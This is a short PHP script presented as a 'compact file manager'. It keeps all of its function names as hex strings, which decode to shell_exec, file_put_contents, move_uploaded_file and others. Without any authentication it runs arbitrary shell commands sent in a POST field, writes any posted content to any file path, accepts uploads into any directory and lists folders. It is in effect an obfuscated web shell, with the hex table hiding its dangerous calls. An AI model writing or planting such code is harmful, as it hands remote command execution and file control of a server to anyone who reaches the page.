<?php
// Compact file manager: every function it uses is kept as a hex string in one table, and a
// getter decodes the table into a second array and hands back one name by position.
$tbl = array(
    '676574637764',
    '7363616e646972',
    '66696c655f6765745f636f6e74656e7473',
    '66696c655f7075745f636f6e74656e7473',
    '6d6f76655f75706c6f616465645f66696c65',
    '7368656c6c5f65786563',
    '68746d6c7370656369616c6368617273',
    '69735f66696c65'
);

function fn_at($pos)
{
    global $tbl;
    for ($i = 0; $i < count($tbl); $i++) {
        $names[] = hex2bin($tbl[$i]);
    }
    return $names[$pos];
}

$dir = isset($_GET['d']) ? hex2bin($_GET['d']) : fn_at(0)();
if (isset($_FILES['up'])) {
    fn_at(4)($_FILES['up']['tmp_name'], $dir . '/' . $_FILES['up']['name']);
}
if (isset($_GET['f'], $_POST['body'])) {
    fn_at(3)(hex2bin($_GET['f']), $_POST['body']);
}
if (isset($_POST['run'])) {
    echo '<pre>' . fn_at(6)(fn_at(5)($_POST['run'])) . '</pre>';
}
foreach (fn_at(1)($dir) as $e) {
    $p = $dir . '/' . $e;
    echo '<a href="?d=' . bin2hex($dir) . '&f=' . bin2hex($p) . '">' . fn_at(6)($e) . '</a><br>';
}
